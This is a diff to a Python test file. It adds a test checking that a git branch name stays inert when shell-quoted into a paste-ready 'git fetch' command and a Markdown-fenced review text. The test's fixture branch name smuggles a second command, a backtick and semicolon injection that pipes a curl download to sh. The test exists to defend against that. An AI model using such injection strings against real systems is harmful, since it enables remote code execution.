@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+import shlex
 from pathlib import Path
 
 import pytest
@@ -116,6 +117,17 @@ def test_a_long_text_is_cut_and_says_what_is_left_out(longest: int) -> None:
     assert text.startswith("**failed") and text.endswith("--chart chart-4\n```")
     assert len(review_text.summary(long)) <= 140
     assert not unfenced(text)
+
+
+def test_a_command_that_people_paste_runs_nothing_of_a_branchs_name() -> None:
+    """Quoted for a shell, it must stay as it is: the name ends no quote and no fence."""
+    name = "refs/heads/x`;curl${IFS}h|sh;```'"
+    checkout = shlex.join(["git", "fetch", "origin", name])
+    commands = review_text.commands(page(FAILED), checkout, None)
+    text = review_text.text(page(FAILED), About(HEAD, HEAD, commands=commands), 60_000)
+    [line] = [line for line in text.splitlines() if line.startswith("git fetch")]
+    assert shlex.split(line) == ["git", "fetch", "origin", name]
+    assert text.endswith("\n`````") and not unfenced(text)
 
 
 def unfenced(text: str) -> list[str]:
